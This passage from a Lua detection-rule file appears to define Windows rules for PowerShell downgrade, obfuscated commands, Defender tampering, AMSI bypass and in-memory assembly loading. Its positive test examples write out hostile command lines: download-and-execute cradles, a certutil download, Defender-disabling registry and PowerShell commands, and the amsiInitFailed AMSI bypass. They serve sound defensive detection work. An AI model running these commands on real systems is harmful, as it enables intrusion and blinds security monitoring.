                 X(PS, [[powershell /NoProfile /NonInteractive /ExecutionPolicy Bypass /Command "& {x}"]]),
                 X(PS, [[powershell –nop –exec bypass –noni –c iex $x]]) },
    negative = { X(PS, [[powershell.exe -ExecutionPolicy RemoteSigned -File C:\scripts\a.ps1]]),
                 X(PS, [[powershell -NoProfile -File C:\scripts\backup.ps1]]) },
  },
}

rules.define {
  id = "win.powershell_version2_downgrade", platform = "windows", severity = "medium",
  needs = { name = ps, original_file_name = { "powershell.exe", "pwsh.dll" } },
  title = "PowerShell downgraded to version 2",
  description = "powershell -version 2 (or -v 2) runs without AMSI and script-block logging.",
  technique = { "T1562.010", "T1059.001" },
  falsepositives = { "Legacy scripts that need PowerShell 2" },
  match = function(p)
    return is_ps(p) and (" " .. cl(p)):find("%s[-/]ve?r?s?i?o?n?%s+2[%s.]")
      or is_ps(p) and (cl(p) .. " "):find("%s[-/]ve?r?s?i?o?n?%s+2%s")
  end,
  examples = {
    positive = { X(PS, [[powershell.exe -version 2 -c "IEX $x"]]), X(PS, [[powershell -v 2 -nop]]) },
    negative = { X(PS, [[powershell -c Get-Host]]), X(PS, [[powershell -file v2.ps1]]) },
  },
}

rules.define {
  id = "win.powershell_obfuscation", platform = "windows", severity = "high",
  needs = { name = ps, original_file_name = { "powershell.exe", "pwsh.dll" } },
  title = "Obfuscated PowerShell command line",
  description = "Many backticks inside words, [char] arithmetic, -join/-split reversal and string-format "
    .. "reordering are Invoke-Obfuscation's output and hide the real command.",
  technique = { "T1027", "T1059.001" },
  falsepositives = { "Scripts that escape many characters legitimately" },
  match = function(p)
    if not is_ps(p) then return false end
    local c = cl(p)
    -- counted only where the character or word occurs at all (the counts are 0 otherwise)
    local ticks = c:find("`", 1, true) and select(2, c:gsub("%a`%a", "")) or 0
    local chars = c:find("[char]", 1, true) and select(2, c:gsub("%[char%]", "")) or 0
    return ticks >= 4 or chars >= 5 or (c:find("-join", 1, true) and c:find("[-1..", 1, true)) or
      (c:find("%(%s*'{%d}{%d}") and c:find("-f", 1, true)) or c:find("[string]::join", 1, true) and chars > 0
  end,
  examples = {
    positive = { X(PS, [[powershell -c "I`E`X (N`e`w-O`bje`ct Net.WebClient).DownloadString('http://x')"]]),
                 X(PS, [[powershell -c "&([char]73+[char]69+[char]88) ([char]104+[char]105)"]]),
                 X(PS, [[powershell -c "('{1}{0}' -f 'X','IE')"]]) },
    negative = { X(PS, [[powershell -c "Write-Host `"done`""]]), X(PS, [[powershell Get-ChildItem]]) },
  },
}

rules.define {
  id = "win.cmd_caret_obfuscation", platform = "windows", severity = "medium",
  -- the first test below, exactly: a letter, a caret or quote, and a letter
  needs = { command_line = { "^", '"', between_letters = true } },
  title = "cmd command line obfuscated with carets or split quotes",
  description = "p^o^w^e^r^s^h^e^l^l and p\"ow\"er\"sh\"ell defeat naive substring rules; legitimate command lines "
    .. "rarely escape letters.",
  technique = { "T1027.010", "T1059.003" },
  falsepositives = { "Batch files escaping shell metacharacters (they escape > | &, not letters)" },
  match = function(p)
    local c = cl(p)
    -- both counts below need a letter, a caret or quote, and a letter: most lines (quoted paths too) have none
    if not c:find("%a[%^\"]%a") then return false end
    local _, carets = c:gsub("%a%^%a", "")
    local _, quotes = c:gsub("%a\"%a", "")
    if carets + quotes < 3 then return false end -- before the copies below: most lines stop here
    local hidden = F15((c:gsub("%^", ""):gsub("\"", "")))
    return hidden ~= nil, hidden and ("hides " .. hidden)
  end,
  examples = {
    positive = { X("cmd.exe", [[cmd /c p^o^w^e^r^s^h^e^l^l -c calc]]),
                 X("cmd.exe", [[cmd.exe /c "c"e"r"t"u"t"i"l -urlcache -f http://x.test/a a"]]) },
    negative = { X("cmd.exe", [[cmd /c echo a ^> b ^| more]]), X("cmd.exe", [[cmd /c "C:\Program Files\a.exe" "x"]]) },
  },
}

rules.define {
  id = "win.defender_disabled_more", platform = "windows", severity = "high",
  needs = { command_line = { "windows defender", "-removedefinitions", "mppreference" } },
  title = "Defender switched off through the registry, MpCmdRun or its services",
  description = "DisableAntiSpyware/DisableRealtimeMonitoring policy values, MpCmdRun -RemoveDefinitions, "
    .. "exclusions through the registry or Set-MpPreference with abbreviated switches blind Defender.",
  technique = { "T1562.001" },
  falsepositives = { "Third-party AV installers disabling Defender" },
  match = function(p)
    local c = cl(p)
    if c:find("windows defender", 1, true) and F16(c) then
      return true
    end
    if p.name == "mpcmdrun.exe" and c:find("-removedefinitions", 1, true) then return true end
    if c:find("mppreference", 1, true) and F17(c) then
      return true
    end
    return false
  end,
  examples = {
    positive = { X("reg.exe", [[reg add "HKLM\SOFTWARE\Policies\Microsoft\Windows Defender" /v DisableAntiSpyware /t REG_DWORD /d 1 /f]]),
                 X(PS, [[powershell Set-MpPreference -DisableRealtimeMonitoring $true]]),
                 X(PS, [[powershell Add-MpPreference -ExclusionExtension ".exe"]]),
                 X([[C:\Program Files\Windows Defender\MpCmdRun.exe]], [[MpCmdRun.exe -RemoveDefinitions -All]]) },
    negative = { X(PS, [[powershell Get-MpPreference]]),
                 X([[C:\Program Files\Windows Defender\MpCmdRun.exe]], [[MpCmdRun.exe -Scan -ScanType 1]]) },
  },
}

rules.define {
  id = "win.amsi_bypass_cli", platform = "windows", severity = "high",
  needs = { command_line = amsi_words, decoded = amsi_words },
  title = "AMSI bypass on the command line",
  description = "References to AmsiUtils, amsiInitFailed, AmsiScanBuffer or amsi.dll patching in a command line "
    .. "(decoded when -EncodedCommand) switch off script scanning.",
  technique = { "T1562.001" },
  falsepositives = { "None known" },
  match = function(p)
    local c = cl(p)
    if p.decoded then c = c .. " " .. p.decoded end
    return F18(c)
  end,
  examples = {
    positive = { X(PS, [[powershell -c "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils').GetField('amsiInitFailed','NonPublic,Static').SetValue($null,$true)"]]) },
    negative = { X(PS, [[powershell -c Get-Service]]), X("cmd.exe", [[cmd /c dir amsi]]) },
  },
}

rules.define {
  id = "win.powershell_reflective_load_cli", platform = "windows", severity = "high",
  needs = { command_line = { "assembly]::" }, decoded = { "assembly]::" } },
  title = "PowerShell loads an assembly from memory",
  description = "[Reflection.Assembly]::Load of bytes from base64 or a download runs a .NET payload that never "
    .. "touches disk.",
  technique = { "T1620", "T1059.001" },
  falsepositives = { "Scripts loading embedded helper assemblies" },
  match = function(p)
    local c = cl(p)
    if p.decoded then c = c .. " " .. p.decoded end
    return (c:find("assembly]::load", 1, true) or c:find("assembly]::unsafeloadfrom", 1, true))
      and F19(c)
  end,
  examples = {
    positive = { X(PS, [[powershell -c "[System.Reflection.Assembly]::Load([Convert]::FromBase64String($b)).EntryPoint.Invoke($null,$null)"]]) },
    negative = { X(PS, [[powershell -c "[Reflection.Assembly]::LoadWithPartialName('System.Windows.Forms')"]]),
                 X(PS, [[powershell [Convert]::FromBase64String('aGk=')]]) },
  },
}
